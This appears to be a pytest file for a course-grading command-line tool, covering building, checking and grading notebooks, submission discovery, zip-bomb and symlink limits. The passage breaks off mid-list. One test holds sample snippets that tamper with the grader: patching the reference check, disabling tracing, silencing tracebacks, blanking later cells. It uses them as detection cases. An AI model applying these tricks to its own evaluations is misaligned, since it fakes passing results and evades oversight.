"""The `course` console script: build, check, preflight and bench, run as a user runs them (a subprocess)."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from course_lib.grading import notebook_run
from course_lib.grading.protocol import CellVerdict
from course_lib.instructor import build, cells, match, notebook_file, submissions
from course_lib.instructor.cells import with_answers as submission_with
from course_lib.instructor.gradebook import apply_roster, cell_scores, name_student, stage_original
from course_lib.instructor.recording import all_or_nothing
from course_lib.instructor.roster import read_roster

pytestmark = pytest.mark.slow  # the whole module: `make test-all` runs it, `make test` does not

CHAPTER = "01_length_ledger"
COURSE = str(Path(sys.executable).parent / "course")


def _course(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([COURSE, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """`course build 01_length_ledger` in a scratch copy of the course."""
    base = tmp_path_factory.mktemp("cli")
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, base / "course")
    completed = _course("build", CHAPTER, "--root", str(root), cwd=base)
    return base, root, completed


def test_console_script_is_installed_and_lists_its_verbs():
    completed = subprocess.run([COURSE, "--help"], capture_output=True, text=True, timeout=120)
    assert completed.returncode == 0
    for verb in ("build", "check", "grade", "preflight", "bench"):
        assert verb in completed.stdout


@pytest.mark.slow
def test_build_writes_source_and_release_and_prints_a_summary(built):
    base, root, completed = built
    assert completed.returncode == 0, completed.stderr[-2000:]
    source = cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb")
    points = sum(p for _, p, _ in cells.graded_cells(source))
    row = next(line for line in completed.stdout.splitlines() if line.startswith(CHAPTER))
    assert row.split()[1:] == [str(len(cells.graded_cells(source))), f"{points:g}"]
    assert completed.stdout.strip().endswith(
        f"1 chapters, {len(cells.graded_cells(source))} graded cells, {points:g} points"
    )
    release = (root / "release" / CHAPTER / f"{CHAPTER}.ipynb").read_text(encoding="utf-8")
    assert "BEGIN HIDDEN TESTS" not in release and "BEGIN SOLUTION" not in release
    assert 'raise NotImplementedError(\\"audit_context_fit is not written yet' in release  # JSON escapes the quote


def _check_rows(completed: subprocess.CompletedProcess) -> dict[str, list[str]]:
    """`course check`'s table: grade_id -> the words of its row (header and summary line left out)."""
    return {line.split()[0]: line.split() for line in completed.stdout.splitlines()[1:-1]}


@pytest.mark.slow
def test_check_shows_which_todos_pass_their_visible_tests(built):
    base, root, _ = built
    solutions = cells.solution_cells(cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb"))
    release = root / "release" / CHAPTER / f"{CHAPTER}.ipynb"
    (base / "student").mkdir(exist_ok=True)
    writes = "open('written_by_the_run.txt', 'w').close()  # as the GPU chapters' lab_results/ are\n"
    half = submission_with(
        release,
        {"todo_ledger_from_roles": writes + solutions["todo_ledger_from_roles"]},
        base / "student" / f"{CHAPTER}.ipynb",
    )
    completed = _course("check", str(half), cwd=base)
    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]
    # the run's files go to a scratch folder, removed afterwards: none beside the notebook, none where course ran
    assert not list(base.rglob("written_by_the_run.txt"))
    rows = _check_rows(completed)
    assert rows["test_ledger_from_roles"][1:3] == ["PASS", "3"], completed.stdout
    assert rows["test_audit_context_fit"][1:3] == ["FAIL", "5"], completed.stdout
    assert "NotImplementedError" in " ".join(rows["test_audit_context_fit"])
    assert "visible tests pass on 1 of 2 graded cells (3 of 8 points)" in completed.stdout
    # A test cell emptied by the student proves nothing: EDITED, not a pass, and the check exits 1.
    emptied = submission_with(
        release,
        {**solutions, "test_audit_context_fit": "pass  # my tests now pass"},
        base / "student" / f"{CHAPTER}_edited.ipynb",
    )
    completed = _course("check", str(emptied), cwd=base)
    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]
    rows = _check_rows(completed)
    assert rows["test_ledger_from_roles"][1:3] == ["PASS", "3"], completed.stdout
    assert rows["test_audit_context_fit"][1:3] == ["EDITED", "5"], completed.stdout
    assert "visible tests pass on 1 of 2 graded cells (3 of 8 points)" in completed.stdout
    # A TODO that only calls the library passed here once and then earned nothing in the grade: it fails here too.
    delegating = "def ledger_from_roles(roles, *, supervise_eos=True):\n    return course_lib.ledger_from_roles(roles)"
    borrowed = submission_with(
        release, {**solutions, "todo_ledger_from_roles": delegating}, base / "student" / f"{CHAPTER}_borrowed.ipynb"
    )
    completed = _course("check", str(borrowed), cwd=base)
    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]
    rows = _check_rows(completed)
    assert rows["test_ledger_from_roles"][1:3] == ["FAIL", "3"], completed.stdout
    assert "this calls course_lib.ledger_from_roles" in " ".join(rows["test_ledger_from_roles"]), completed.stdout
    assert rows["test_audit_context_fit"][1:3] == ["PASS", "5"], completed.stdout


@pytest.mark.slow
def test_check_runs_this_python_and_survives_a_console_that_cannot_print_chinese(built, tmp_path):
    """Two student machines: a `python3` kernel spec of another interpreter in a Jupyter folder (it won over the
    Python running `course`, whose kernel then never started), and a Windows console in cp1252 (the table's
    message with Chinese in it raised UnicodeEncodeError instead of printing)."""
    base, root, _ = built
    solutions = cells.solution_cells(cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb"))
    release = root / "release" / CHAPTER / f"{CHAPTER}.ipynb"
    wrong = "def ledger_from_roles(roles, template_tokens=0):\n    raise ValueError('长度账本 not finished')\n"
    notebook = submission_with(release, {**solutions, "todo_ledger_from_roles": wrong}, tmp_path / f"{CHAPTER}.ipynb")
    other = tmp_path / "jupyter" / "kernels" / "python3"
    other.mkdir(parents=True)
    (other / "kernel.json").write_text(
        json.dumps(
            {
                "argv": [str(tmp_path / "no-such-python"), "-m", "ipykernel_launcher", "-f", "{connection_file}"],
                "display_name": "Python 3 (another interpreter)",
                "language": "python",
            }
        ),
        encoding="utf-8",
    )
    env = {**os.environ, "JUPYTER_PATH": str(tmp_path / "jupyter"), "PYTHONIOENCODING": "cp1252"}
    completed = _course("check", str(notebook), cwd=tmp_path, env=env)
    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]
    rows = _check_rows(completed)
    assert rows["test_ledger_from_roles"][1:3] == ["FAIL", "3"], completed.stdout
    assert "ValueError: \\u957f\\u5ea6\\u8d26\\u672c not finished" in " ".join(rows["test_ledger_from_roles"])
    assert rows["test_audit_context_fit"][1:3] == ["PASS", "5"], completed.stdout


def test_check_refuses_a_file_that_is_not_a_course_notebook(tmp_path):
    (tmp_path / "broken.ipynb").write_text("{", encoding="utf-8")
    completed = _course("check", str(tmp_path / "broken.ipynb"), cwd=tmp_path)
    assert completed.returncode == 2 and "not valid JSON" in completed.stderr


def test_grade_refuses_a_missing_folder_and_a_root_without_nbgrader_config(tmp_path):
    missing = _course("grade", str(tmp_path / "nothing"), "--root", str(build.NOTEBOOKS_DIR), cwd=tmp_path)
    assert missing.returncode == 2 and "does not exist" in missing.stderr
    (tmp_path / "inbox").mkdir()
    no_root = _course("grade", str(tmp_path / "inbox"), "--root", str(tmp_path), cwd=tmp_path)
    assert no_root.returncode == 2 and "not a course root" in no_root.stderr


def test_grade_fails_when_there_is_no_notebook_at_all(tmp_path):
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    (tmp_path / "empty").mkdir()
    empty = _course("grade", str(tmp_path / "empty"), "--root", str(root), "--no-progress", cwd=tmp_path)
    assert empty.returncode == 1 and "no notebook (.ipynb) found" in empty.stdout, empty.stdout + empty.stderr
    (tmp_path / "junk" / "__MACOSX").mkdir(parents=True)
    (tmp_path / "junk" / "__MACOSX" / f"._alice_{CHAPTER}.ipynb").write_bytes(b"\x00\x05")
    (tmp_path / "junk" / "notes.txt").write_text("my notes", encoding="utf-8")
    junk = _course("grade", str(tmp_path / "junk"), "--root", str(root), "--no-progress", cwd=tmp_path)
    assert junk.returncode == 1 and "no notebook (.ipynb) found" in junk.stdout, junk.stdout + junk.stderr
    assert f"__MACOSX/._alice_{CHAPTER}.ipynb" in junk.stdout and "notes.txt" in junk.stdout
    assert not (root / "gradebook.db").exists() and not (root / "grades.csv").exists()


def test_grade_finds_alembic_beside_its_interpreter_without_an_activated_venv(tmp_path):
    """nbgrader runs `alembic` from PATH to create a new gradebook; PATH here does not name the venv."""
    bin_dir = Path(sys.executable).parent.resolve()
    path = os.pathsep.join(
        folder
        for folder in os.environ.get("PATH", "").split(os.pathsep)
        if folder and Path(folder).resolve() != bin_dir
    )
    if shutil.which("alembic", path=path):
        pytest.skip("an alembic outside the virtual environment is on PATH")
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / f"alice_{CHAPTER}.ipynb").write_bytes(b"")
    completed = _course(
        "grade",
        str(tmp_path / "inbox"),
        "--root",
        str(root),
        "--no-progress",
        cwd=tmp_path,
        env=dict(os.environ, PATH=path),
    )
    assert completed.returncode == 1 and "Traceback" not in completed.stderr, completed.stderr[-3000:]
    assert "empty file" in completed.stdout and "graded 0, failed 1" in completed.stdout
    assert (root / "gradebook.db").exists() and (root / "grades.csv").exists()


def test_preflight_prints_the_profile_table(tmp_path):
    completed = _course("preflight", "BASE-CPU", "--json", cwd=tmp_path)
    record = json.loads(completed.stdout)
    assert record["profile"] == "BASE-CPU" and completed.returncode == (0 if record["passed"] else 1)
    unknown = _course("preflight", "NO-SUCH-PROFILE", cwd=tmp_path)
    assert unknown.returncode == 2


def test_bench_records_a_dry_run_through_the_runner(tmp_path):
    completed = _course(
        "bench",
        "pt-long-context",
        "--mode",
        "dry_run",
        "--label",
        "cli-test",
        "--results-dir",
        str(tmp_path / "results"),
        "--no-hub",
        "--no-progress",
        cwd=tmp_path,
    )
    assert completed.returncode == 0, completed.stderr[-2000:]
    written = list((tmp_path / "results").rglob("*.json"))
    assert len(written) == 1 and json.loads(written[0].read_text())["run_mode"] == "dry_run"
    again = _course(
        "bench",
        "pt-long-context",
        "--mode",
        "dry_run",
        "--label",
        "cli-test",
        "--results-dir",
        str(tmp_path / "results"),
        cwd=tmp_path,
    )
    assert again.returncode == 2 and len(list((tmp_path / "results").rglob("*.json"))) == 1


def test_names_and_layouts_are_read_as_student_and_chapter():
    chapters = [CHAPTER, "02_templates_and_labels"]
    read = submissions.name_student_chapter
    assert read(Path(f"alice_{CHAPTER}.ipynb"), chapters)[:2] == ("alice", CHAPTER)
    assert read(Path(f"x/submitted/bob_smith/{CHAPTER}/{CHAPTER}.ipynb"), chapters)[:2] == ("bob_smith", CHAPTER)
    assert read(Path(f"carol/{CHAPTER}.ipynb"), chapters)[:2] == ("carol", CHAPTER)
    assert read(Path("notes.ipynb"), chapters)[2].startswith("cannot tell")
    assert read(Path(f"{CHAPTER}.ipynb"), chapters)[2].startswith("cannot tell the student")
    assert read(Path(f"{CHAPTER}/{CHAPTER}.ipynb"), chapters)[2].startswith("cannot tell the student")
    assert read(Path(f"week3/alice_{CHAPTER}.IPYNB"), chapters)[:2] == ("alice", CHAPTER)
    # a student's copy of the course's own layout: the student is above release/, which is no student
    assert read(Path(f"ned/release/{CHAPTER}/{CHAPTER}.ipynb"), chapters) == ("ned", CHAPTER, None)
    assert read(Path(f"release/{CHAPTER}/{CHAPTER}.ipynb"), chapters)[2].startswith("cannot tell the student")


def test_a_student_named_file_wins_over_the_folders_above_it():
    """nbgrader's <student>/<chapter>/ layout is read only for a file named after the chapter."""
    chapters = [CHAPTER, "02_templates_and_labels"]
    read = submissions.name_student_chapter
    assert read(Path(f"inbox9/term1/{CHAPTER}/zoe_{CHAPTER}.ipynb"), chapters) == ("zoe", CHAPTER, None)
    student, chapter, problem = read(Path(f"term1/02_templates_and_labels/zoe_{CHAPTER}.ipynb"), chapters)
    assert "folder named after chapter 02_templates_and_labels" in problem and f"says chapter {CHAPTER}" in problem
    assert read(Path(f"bob/02_templates_and_labels/{CHAPTER}.ipynb"), chapters)[0::2] == (
        None,
        (
            f"'bob/02_templates_and_labels/{CHAPTER}.ipynb' is in a folder named after chapter 02_templates_and_labels "
            f"but its name says chapter {CHAPTER}; move or rename it and rerun"
        ),
    )


@pytest.mark.parametrize(
    "name",
    [f"Copy_of_{CHAPTER}", f"Copy of {CHAPTER}", f"{CHAPTER} (1)", f"Copy of {CHAPTER} (2)", f"copy_of_{CHAPTER}(3)"],
)
def test_colab_and_desktop_copies_of_a_chapter_take_the_student_from_the_folder(name):
    read = submissions.name_student_chapter
    assert read(Path(f"pat/{name}.ipynb"), [CHAPTER]) == ("pat", CHAPTER, None)
    assert read(Path(f"submitted/pat/{CHAPTER}/{name}.ipynb"), [CHAPTER]) == ("pat", CHAPTER, None)
    assert read(Path(f"inbox/{name.replace(CHAPTER, 'alice_' + CHAPTER)}.ipynb"), [CHAPTER])[:2] == ("alice", CHAPTER)


def test_no_file_is_left_out_without_a_line(tmp_path):
    """Upper-case suffixes are read, zips inside the input opened (one level), hidden files failed with a reason,
    and junk or other files counted in a summary line."""
    notebook = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]))
    inbox = tmp_path / "inbox"
    for name in (
        f"week3/liam_{CHAPTER}.IPYNB",
        f".hidden/pete_{CHAPTER}.ipynb",
        f".ivy_{CHAPTER}.ipynb",
        f".ipynb_checkpoints/liam_{CHAPTER}-checkpoint.ipynb",
        f"__MACOSX/week3/._liam_{CHAPTER}.IPYNB",
    ):
        (inbox / name).parent.mkdir(parents=True, exist_ok=True)
        (inbox / name).write_text(notebook, encoding="utf-8")
    (inbox / f"sam_{CHAPTER}.py").write_text("x = 1", encoding="utf-8")
    (inbox / "README.txt").write_text("hello", encoding="utf-8")
    (inbox / ".DS_Store").write_bytes(b"\x00")
    (inbox / "broken.zip").write_bytes(b"not a zip")
    deeper = io.BytesIO()
    with zipfile.ZipFile(deeper, "w") as archive:
        archive.writestr(f"kim_{CHAPTER}.ipynb", notebook)
    with zipfile.ZipFile(inbox / "olga_submission.zip", "w") as archive:
        archive.writestr(f"olga_{CHAPTER}.ipynb", notebook)
        archive.writestr(f"{CHAPTER}.ipynb", notebook)  # named after the chapter: the zip is the student's folder
        archive.writestr("more.zip", deeper.getvalue())
    (tmp_path / "scratch").mkdir()
    found = submissions.discover(inbox, [CHAPTER], tmp_path / "scratch")
    by_name = {s.display: s for s in found.submissions}
    assert sorted(by_name) == [
        f".hidden/pete_{CHAPTER}.ipynb",
        f".ivy_{CHAPTER}.ipynb",
        "broken.zip",
        f"olga_submission.zip/{CHAPTER}.ipynb",
        "olga_submission.zip/more.zip",
        f"olga_submission.zip/olga_{CHAPTER}.ipynb",
        f"sam_{CHAPTER}.py",
        f"week3/liam_{CHAPTER}.IPYNB",
    ]
    graded = {name: (s.student, s.chapter) for name, s in by_name.items() if s.problem is None}
    assert graded == {
        f"week3/liam_{CHAPTER}.IPYNB": ("liam", CHAPTER),
        f"olga_submission.zip/olga_{CHAPTER}.ipynb": ("olga", CHAPTER),
        f"olga_submission.zip/{CHAPTER}.ipynb": ("olga_submission", CHAPTER),
    }
    assert by_name[f".hidden/pete_{CHAPTER}.ipynb"].problem.startswith("hidden file or folder")
    assert by_name[f".ivy_{CHAPTER}.ipynb"].problem.startswith("hidden file or folder")
    assert "zip inside a zip" in by_name["olga_submission.zip/more.zip"].problem
    assert by_name["broken.zip"].problem == "not a readable zip file"
    assert by_name[f"sam_{CHAPTER}.py"].problem.startswith("not a notebook (.py)")
    junk, other = found.ignored()
    assert junk.startswith("ignored 3 files, copies and system files") and "__MACOSX/week3/" in junk
    assert other == "ignored 1 file, neither a notebook (.ipynb) nor a zip: README.txt"


def test_folders_and_zips_named_like_a_submission_links_and_course_folders(tmp_path):
    """<student>_<chapter>.zip holding <chapter>.ipynb is the student's; a student's release/ copy is a submission
    (only a course root's own release/ is left out); a link within the inbox is followed, a link out of it (to a
    folder or a file: an unpacked archive's `heidi -> the instructor's notebooks`) is refused and reported, as is
    a broken link."""
    notebook = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]))
    inbox, elsewhere = tmp_path / "inbox", tmp_path / "elsewhere" / "alice"
    for path in (
        inbox / f"bob_{CHAPTER}" / f"{CHAPTER}.ipynb",
        inbox / "zed_02_templates_and_labels" / f"{CHAPTER}.ipynb",
        inbox / "cat" / "release" / CHAPTER / f"cat_{CHAPTER}.ipynb",
        elsewhere / f"{CHAPTER}.ipynb",
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(notebook, encoding="utf-8")
    (inbox / "alice").symlink_to(elsewhere, target_is_directory=True)
    (inbox / "loop").symlink_to(inbox, target_is_directory=True)  # followed once, not forever
    (inbox / f"dan_{CHAPTER}.ipynb").symlink_to(tmp_path / "gone.ipynb")
    (inbox / f"eve_{CHAPTER}.ipynb").symlink_to(elsewhere / f"{CHAPTER}.ipynb")
    (inbox / ".venv" / "bin").mkdir(parents=True)  # a virtual environment beside the submissions: ignored
    (inbox / ".venv" / "bin" / "python3").symlink_to(sys.executable)
    (inbox / ".venv" / "lib64").symlink_to(tmp_path, target_is_directory=True)
    (inbox / "README.md").symlink_to(tmp_path / "elsewhere" / "alice" / f"{CHAPTER}.ipynb")
    (tmp_path / "scratch").mkdir()
    chapters = [CHAPTER, "02_templates_and_labels"]
    found = submissions.discover(inbox, chapters, tmp_path / "scratch")
    by_name = {s.display: s for s in found.submissions}
    assert {name: (s.student, s.chapter) for name, s in by_name.items() if s.problem is None} == {
        f"bob_{CHAPTER}/{CHAPTER}.ipynb": ("bob", CHAPTER),
        f"cat/release/{CHAPTER}/cat_{CHAPTER}.ipynb": ("cat", CHAPTER),
    }
    assert by_name["alice"].problem == "a symbolic link to a folder outside the inbox: not followed"
    assert by_name[f"eve_{CHAPTER}.ipynb"].problem.startswith("a symbolic link to a file outside the inbox")
    assert f"alice/{CHAPTER}.ipynb" not in by_name
    assert not [name for name in by_name if name.startswith(".venv") or name == "README.md"], sorted(by_name)
    assert (
        "its folder names chapter 02_templates_and_labels"
        in by_name[f"zed_02_templates_and_labels/{CHAPTER}.ipynb"].problem
    )
    assert by_name[f"dan_{CHAPTER}.ipynb"].problem == "a link to nothing (a broken symbolic link)"
    (inbox / "nbgrader_config.py").write_text("c = get_config()\n", encoding="utf-8")  # now a course root
    found = submissions.discover(inbox, chapters, tmp_path / "scratch")
    assert f"cat/release/{CHAPTER}/cat_{CHAPTER}.ipynb" in {s.display for s in found.submissions}
    (inbox / "release" / CHAPTER).mkdir(parents=True)
    (inbox / "release" / CHAPTER / f"{CHAPTER}.ipynb").write_text(notebook, encoding="utf-8")
    found = submissions.discover(inbox, chapters, tmp_path / "scratch")
    assert f"release/{CHAPTER}/{CHAPTER}.ipynb" not in {s.display for s in found.submissions}
    assert any("release/" in line for line in found.ignored())


def test_a_zip_bomb_fills_neither_disk_nor_memory(tmp_path, monkeypatch):
    """A 60 MB notebook packed into a zip of a few KB is written only up to the size limit and reported as too
    large (not lost); a zip whose files would take more than the grader allows is refused before it is unpacked;
    a too-large file in a folder is reported without being read."""
    bomb = tmp_path / f"bomb_{CHAPTER}.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"bomb_{CHAPTER}.ipynb", b" " * (60 * 2**20))
    assert bomb.stat().st_size < 2**20
    (tmp_path / "scratch").mkdir()
    found = submissions.discover(submissions.unpack(bomb, tmp_path / "scratch"), [CHAPTER], tmp_path / "scratch")
    (submission,) = found.submissions
    assert submission.problem == "file too large (52 MB)" and submission.raw is None
    assert submission.path.stat().st_size == notebook_file.MAX_BYTES + 1
    monkeypatch.setattr(submissions, "MAX_UNPACKED_BYTES", 10 * 2**20)
    with pytest.raises(ValueError, match=r"would take 0\.1 GB unpacked, over what is left of the grader's 0\.0 GB"):
        submissions.unpack(bomb, tmp_path / "scratch2")
    assert not any((tmp_path / "scratch2").rglob("*.ipynb"))
    monkeypatch.setattr(submissions, "MAX_UNPACKED_BYTES", 80 * 2**20)  # one bomb fits, not two
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for student in ("ann", "ben"):
        shutil.copy(bomb, inbox / f"{student}_bundle.zip")  # a zip named for no student: its notebook is bomb's
    (tmp_path / "scratch3").mkdir()
    found = submissions.discover(inbox, [CHAPTER], tmp_path / "scratch3")
    problems = {s.display: s.problem for s in found.submissions}
    assert problems[f"ann_bundle.zip/bomb_{CHAPTER}.ipynb"] == "file too large (52 MB)", problems
    assert "over what is left of the grader's" in problems["ben_bundle.zip"], problems


def test_each_cell_keeps_at_most_the_output_limit():
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("print(...)"), nbformat.v4.new_code_cell("small")]
    )
    notebook.cells[0].outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="x" * 700),
        nbformat.v4.new_output("stream", name="stdout", text="y" * 700),
        nbformat.v4.new_output("execute_result", data={"text/plain": "z" * 700}, execution_count=1),
        nbformat.v4.new_output("error", ename="E", evalue="e" * 700, traceback=["t" * 700]),
    ]
    notebook.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="fine\n")]
    assert notebook_run.cap_outputs(notebook, limit=500) == [0]
    stream, result, error = notebook.cells[0].outputs
    assert stream.text.startswith("x" * 500) and "yy" not in stream.text
    assert "900 more characters of output cut by the grader" in stream.text
    assert len(result.data["text/plain"]) < 600 and len(error.evalue) < 600 and len(error.traceback[0]) < 600
    assert notebook.cells[1].outputs[0].text == "fine\n"


def test_a_todo_cell_without_metadata_is_found_by_its_function_name(tmp_path):
    """Matching by content: metadata gone and the body rewritten, the TODO cell is still found by its def."""
    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    student = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    for cell in student.cells:
        cell.metadata = {}
    todo = next(
        i for i, c in enumerate(release.cells) if cells.nbgrader_meta(c).get("grade_id") == "todo_audit_context_fit"
    )
    student.cells[todo].source, replaced = re.subn(
        r"raise NotImplementedError\(.*\)", "return {}", student.cells[todo].source
    )
    assert replaced == 1
    prepared = match.prepare(student, release, release)
    assert prepared.unmatched is None
    graded = {cells.nbgrader_meta(c).get("grade_id"): c.source for c in prepared.notebook.cells}
    assert "return {}" in graded["todo_audit_context_fit"]
    assert set(graded) - {None} == {cells.nbgrader_meta(c).get("grade_id") for c in release.cells} - {None}


@pytest.mark.parametrize(
    ("tampering", "shown"),
    [
        ("import course_lib.grading as g\ng.assert_matches_reference = lambda *a, **k: None", "course_lib.grading"),
        ("import sys\nsys.settrace(None)  # blinds the grader's line counter", "settrace"),
        ("from torch.utils._python_dispatch import TorchDispatchMode", "_python_dispatch"),
        (
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])  # every later cell does nothing",
            "input_transformers_cleanup",
        ),
        (
            "from IPython.core.interactiveshell import InteractiveShell\nInteractiveShell.showtraceback = print",
            "InteractiveShell",
        ),
        ("get_ipython().showtraceback = lambda *args, **kwargs: None", "showtraceback"),
        ("import importlib, course_lib.window as w\nfresh = importlib.reload(w)", "reload"),
        ("import marshal\ncode = marshal.loads(open(cached, 'rb').read()[16:])", "marshal"),
        ("import inspect\nsource = inspect.getsource(audit_context_fit)", "getsource"),
        ("import sys\ncaller = sys._getframe(1).f_locals", "_getframe"),
        ("import gc\nheld = [x for x in gc.get_objects() if isinstance(x, dict)]", "get_objects"),
    ],
)
def test_student_code_that_touches_the_grading_machinery_is_flagged(tampering, shown):
    """A TODO cell that patches what the hidden tests use is graded, and flagged for a human to read."""
    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    student = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    todo = next(
        i for i, c in enumerate(release.cells) if cells.nbgrader_meta(c).get("grade_id") == "todo_audit_context_fit"
    )
    student.cells[todo].source += "\n" + tampering + "\n"
    prepared = match.prepare(student, release, release)
    assert any("flagged for review" in note and shown in note for note in prepared.notes), prepared.notes
    honest = match.prepare(cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb"), release, release)
    assert not any("flagged" in note for note in honest.notes), honest.notes


@pytest.mark.parametrize(
    "ordinary",
    [
        "from IPython.display import display",
        "get_ipython().run_line_magic('matplotlib', 'inline')",
        "from sentence_transformers import SentenceTransformer",
        "my_transformers = []",
    ],
)
def test_ordinary_notebook_code_is_not_flagged(ordinary):
    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    student = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    todo = next(
        i for i, c in enumerate(release.cells) if cells.nbgrader_meta(c).get("grade_id") == "todo_audit_context_fit"
    )
    student.cells[todo].source += "\n" + ordinary + "\n"
    prepared = match.prepare(student, release, release)
    assert not any("flagged" in note for note in prepared.notes), prepared.notes


def test_odd_metadata_and_half_an_emoji_are_read_matched_and_written(tmp_path):
    """JSON that nbformat reads but that broke the run: a cell's metadata or nbgrader entry that is not a dict, a
    grade_id that is a list (the matcher hashed it), a cell without metadata, and a lone surrogate ("\\ud83d", half
    an emoji: valid JSON, but no UTF-8 file can hold it, so writing the graded notebook failed)."""
    release_path = build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb"
    release = cells.read(release_path)
    content = json.loads(release_path.read_text(encoding="utf-8"))
    plain = [i for i, c in enumerate(content["cells"]) if c["cell_type"] == "code" and not c["metadata"]]
    markdown = [i for i, c in enumerate(content["cells"]) if c["cell_type"] == "markdown"]
    content["cells"][plain[0]]["metadata"] = {"nbgrader": "not a dict"}
    content["cells"][plain[1]]["metadata"] = {"nbgrader": {"grade_id": ["a", "list"]}}
    content["cells"][plain[2]]["metadata"] = ["not", "a", "dict"]
    del content["cells"][markdown[1]]["metadata"]
    content["cells"][markdown[2]]["source"] = "my notes \ud83d"
    notebook, problem = notebook_file.read_notebook(json.dumps(content).encode("utf-8"))
    assert problem is None, problem
    assert "\ud83d" not in notebook.cells[markdown[2]].source and "\ufffd" in notebook.cells[markdown[2]].source
    prepared = match.prepare(notebook, release, release)
    assert prepared.unmatched is None
    graded = {cells.nbgrader_meta(c).get("grade_id") for c in prepared.notebook.cells} - {None}
    assert graded == {cells.nbgrader_meta(c).get("grade_id") for c in release.cells} - {None}
    nbformat.write(prepared.notebook, str(tmp_path / "prepared.ipynb"))  # what the grader does with it


def test_a_notebook_the_matcher_cannot_read_fails_alone(tmp_path):
    """Whatever the matcher raises on one notebook is that notebook's failure, not the run's."""
    from course_lib.instructor import grade

    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    broken = grade.Chapter(CHAPTER, nbformat.v4.new_notebook(), release)  # source and release differ: prepare raises
    found = [
        submissions.Submission(Path(f"{s}_{CHAPTER}.ipynb"), f"{s}_{CHAPTER}.ipynb", s, CHAPTER, release)
        for s in ("ann", "ben")
    ]
    outcomes = []
    assert grade._prepare_all(tmp_path, found, {CHAPTER: broken}, True, outcomes) == []
    assert [(o.student, o.status) for o in outcomes] == [("ann", "failed"), ("ben", "failed")]
    assert "could not match this notebook's cells" in outcomes[0].reason and "rebuild the course" in outcomes[0].reason


def test_a_notebook_that_cannot_be_recorded_fails_alone(tmp_path, monkeypatch):
    """An error while recording one executed notebook (nbgrader, the file system) fails that notebook; the
    notebooks after it are still recorded."""
    from course_lib.instructor import confined, grade

    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")

    class Recorder:
        def __init__(self, root, staging, roster=None):
            self.root = root

        def release(self, chapters):
            pass

        def record(self, student, chapter, executed, timestamp):
            if student == "ann":
                raise UnicodeEncodeError("utf-8", "\ud83d", 0, 1, "surrogates not allowed")
            return "nbgrader autograde failed: as expected"

    def grade_all(jobs, workers, confinement, on_result):
        for job in jobs:
            verdicts = {
                grade_id: CellVerdict(grade_id, points, passed=True) for grade_id, points, _ in job.checker.tests
            }
            on_result(
                job.key,
                {"notebook": job.kernel.notebook, "seconds": 1.0},
                confined.CheckerResult(verdicts=verdicts),
            )

    monkeypatch.setattr(grade, "NbgraderRecorder", Recorder)
    monkeypatch.setattr(confined, "grade_all", grade_all)
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")  # a clean clone has no source/ yet
    source = cells.read(build.build_source_notebook(root / "chapters" / f"{CHAPTER}.py", root).source_notebook)
    chapters = {CHAPTER: grade.Chapter(CHAPTER, source, release)}
    ready = [
        (
            submissions.Submission(tmp_path / f"{s}.ipynb", f"{s}.ipynb", s, CHAPTER, release, raw=b"{}"),
            match.Prepared(notebook=release),
        )
        for s in ("ann", "ben")
    ]
    (tmp_path / "scratch").mkdir()
    outcomes = grade._execute_and_record(
        tmp_path,
        tmp_path,
        ready,
        chapters,
        workers=1,
        progress=False,
        limits=(5, 10),
        kernel_name="python3",
        confinement=confined.Confinement(),
        staging=tmp_path / "scratch",
    )
    reasons = {o.student: (o.status, o.reason) for o in outcomes}
    assert (
        reasons["ann"][0] == "failed"
        and "failed while recording this notebook: UnicodeEncodeError" in reasons["ann"][1]
    )
    assert reasons["ben"] == ("failed", "nbgrader autograde failed: as expected")
    assert (tmp_path / "submitted" / "ann" / CHAPTER / f"{CHAPTER}.ipynb").read_bytes() == b"{}"  # the file is kept


STRAY_MARKERS = [  # (cell type, the student's text, what is graded)
    ("markdown", "### BEGIN HIDDEN TESTS\nno end", "### BEGIN-HIDDEN TESTS\nno end"),
    (
        "markdown",
